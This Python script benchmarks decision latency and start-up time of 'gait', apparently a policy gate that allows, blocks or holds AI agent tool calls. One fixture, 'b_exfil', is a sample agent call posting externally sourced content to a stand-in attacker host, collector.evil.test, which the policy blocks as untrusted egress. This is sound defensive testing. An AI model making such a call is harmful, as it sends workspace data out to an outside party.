#!/usr/bin/env python3
"""Decision cost: µs per in-process decision, and wall time of one ``gait`` process.

Usage: python tools/bench/bench_decision.py [--number N] [--repeat N] [--runs N] [--ref PATH]

* in process, compiled policy already loaded (policy_cli.md running example and
  a shipped policy; fixtures a/b/c of the running example):
  - decision = decode the intent JSON bytes + normalize + evaluate;
  - ``evaluate`` alone on an already-normalized ``Intent``.
  Each figure is the median over ``--repeat`` timeit repeats of ``--number`` calls,
  in CPU time of the process (wall time on a busy machine counts other work).
* process (median of ``--runs``): one ``gait policy test`` (every run compiles
  the policy from source; there is no compile cache) and ``gait --help``, wall
  and CPU time; with ``--ref PATH`` the same commands of that binary side by side.
* imports: whether ``gait --help`` loads lark or cryptography (it must not).

Target (issue 12): in-process decode + normalize + evaluate of the running
example <= 7 µs. Prints numbers; asserts nothing.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
import timeit
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]

RUNNING_POLICY = """\
schema_id: gait.gate.policy
schema_version: 1.0.0
default_verdict: block
fail_closed:
  enabled: true
  required_fields: [targets]
rules:
  - name: write-needs-review
    priority: 20
    effect: require_approval
    min_approvals: 2
    match:
      tool_names: [fs.write]
    reason_codes: [write_review]
  - name: read-files
    priority: 20
    effect: allow
    match:
      tool_name: FS.Read
  - name: deny-external-egress
    priority: 10
    effect: block
    match:
      provenance_sources: [external]
      target_kinds: [url, host]
    reason_codes: [blocked_untrusted_egress]
    violations: [untrusted_egress]
"""

FIXTURES = {
    "a_read": b'{"tool_name":"fs.read","args":{"path":"/repo/README.md"},"targets":[{"kind":"path","value":"/repo/README.md","operation":"read"}],"arg_provenance":[{"arg_path":"$.path","source":"user"}],"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"low"}}',
    "b_exfil": b'{"tool_name":"http.post","args":{"url":"https://collector.evil.test/upload","body":"see attached"},"targets":[{"kind":"url","value":"https://collector.evil.test/upload","operation":"post"}],"arg_provenance":[{"arg_path":"$.body","source":"external","source_ref":"web:page-42"}],"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"high"}}',
    "c_write": b'{"tool_name":"fs.write","args":{"path":"/repo/out.txt","content":"hello"},"targets":[{"kind":"path","value":"/repo/out.txt","operation":"write"}],"arg_provenance":[{"arg_path":"$.content","source":"user"}],"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"medium"}}',
}
SHIPPED_POLICY = REPO / "policies" / "base_high_risk.yaml"


def median_us(call: Callable[[], Any], number: int, repeat: int) -> float:
    for _ in range(min(number, 500)):  # warm-up: runtime closures, caches
        call()
    # CPU time of this process: steady on a shared machine, where wall time is not.
    times = timeit.repeat(call, number=number, repeat=repeat, timer=time.process_time)
    return statistics.median(times) / number * 1e6


def bench_in_process(number: int, repeat: int) -> None:
    from gait.engine import evaluate
    from gait.intent import decode_intent_bytes, normalize_intent
    from gait.policy import compile_policy

    policies = {
        "running-example": compile_policy(RUNNING_POLICY, use_cache=False),
        SHIPPED_POLICY.name: compile_policy(SHIPPED_POLICY.read_bytes(), use_cache=False),
    }
    print(f"in process: median of {repeat} repeats x {number} calls (target: decision <= 7 µs)")
    print(
        f"  {'policy':<22} {'fixture':<9} {'verdict':<17} {'decision µs':>12} {'evaluate µs':>12}"
    )
    for pname, compiled in policies.items():
        for fname, data in FIXTURES.items():
            intent = normalize_intent(decode_intent_bytes(data))
            verdict = evaluate(compiled, intent).verdict

            def decision(data: bytes = data, compiled: Any = compiled) -> Any:
                return evaluate(compiled, normalize_intent(decode_intent_bytes(data)))

            def evaluate_only(intent: Any = intent, compiled: Any = compiled) -> Any:
                return evaluate(compiled, intent)

            full = median_us(decision, number, repeat)
            only = median_us(evaluate_only, number, repeat)
            print(f"  {pname:<22} {fname:<9} {verdict:<17} {full:>12.2f} {only:>12.2f}")
    # The stages alone, for the running example: each on a fixed input, so the
    # three do not add up to the decision (fresh objects there cost hashing).
    print(f"  stages alone, running example: {'decode µs':>10} {'normalize µs':>13}")
    for fname, data in FIXTURES.items():
        bound = decode_intent_bytes(data)
        dec = median_us(lambda data=data: decode_intent_bytes(data), number, repeat)
        norm = median_us(lambda bound=bound: normalize_intent(bound), number, repeat)
        print(f"  {fname:<31} {dec:>10.2f} {norm:>13.2f}")


def gait_command() -> list[str]:
    search = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    found = shutil.which("gait", path=search)
    return [found] if found else [sys.executable, "-m", "gait.cli.main"]


def run_ms(argv: list[str], cwd: Path, env: dict[str, str]) -> tuple[float, float]:
    """Wall and CPU (user + system) milliseconds of one process."""
    start = time.perf_counter()
    proc = subprocess.Popen(
        argv, cwd=cwd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    _pid, _status, usage = os.wait4(proc.pid, 0)
    wall = (time.perf_counter() - start) * 1000.0
    return wall, (usage.ru_utime + usage.ru_stime) * 1000.0


def medians(argv: list[str], cwd: Path, env: dict[str, str], runs: int) -> tuple[float, float]:
    samples = [run_ms(argv, cwd, env) for _ in range(runs)]
    return (
        statistics.median(w for w, _ in samples),
        statistics.median(c for _, c in samples),
    )


def bench_processes(runs: int, ref: str) -> None:
    gait = gait_command()
    with tempfile.TemporaryDirectory(prefix="gait-bench-") as tmp:
        work = Path(tmp)
        (work / "policy.yaml").write_text(RUNNING_POLICY)
        (work / "intent.json").write_bytes(FIXTURES["c_write"])
        # Users' installs have bytecode; a PYTHONDONTWRITEBYTECODE environment would
        # make every run recompile gait's sources and measure that instead.
        env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
        commands = {
            "policy test": ["policy", "test", "policy.yaml", "intent.json", "--json"],
            "--help": ["--help"],
        }
        print(f"process time: median of {runs} runs ({' '.join(gait)})")
        head = f"  {'command':<14} {'wall ms':>8} {'cpu ms':>8}"
        print(head + (f" {'ref wall':>9} {'ref cpu':>8} {'ratio':>6}" if ref else ""))
        for name, argv in commands.items():
            wall, cpu = medians([*gait, *argv], work, env, runs)
            line = f"  {name:<14} {wall:8.1f} {cpu:8.1f}"
            if ref:
                rwall, rcpu = medians([ref, *argv], work, env, runs)
                line += f" {rwall:9.1f} {rcpu:8.1f} {wall / rwall:5.1f}x"
            print(line)


PROBE = """
import contextlib, io, json, sys
from gait.cli.main import main
with contextlib.redirect_stdout(io.StringIO()):
    main(["--help"])
print(json.dumps(sorted({m.split(".")[0] for m in sys.modules} & {"lark", "cryptography", "yaml", "msgspec"})))
"""


def check_help_imports() -> None:
    out = subprocess.run(
        [sys.executable, "-c", PROBE], capture_output=True, text=True, check=False
    ).stdout.strip()
    loaded = json.loads(out or "null")
    heavy = [m for m in (loaded or []) if m in ("lark", "cryptography")]
    verdict = "ok" if loaded is not None and not heavy else "NOT OK"
    print(
        f"gait --help imports lark/cryptography: {heavy or 'none'} ({verdict}); other heavy: {loaded}"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--number", type=int, default=2000, help="calls per timeit repeat")
    parser.add_argument("--repeat", type=int, default=7, help="timeit repeats (median reported)")
    parser.add_argument("--runs", type=int, default=7, help="process runs (median reported)")
    parser.add_argument("--ref", default="", help="reference gait binary to compare with")
    args = parser.parse_args()
    print(f"python {sys.version.split()[0]} on {sys.platform}")
    bench_in_process(args.number, args.repeat)
    bench_processes(args.runs, args.ref)
    check_help_imports()


if __name__ == "__main__":
    main()
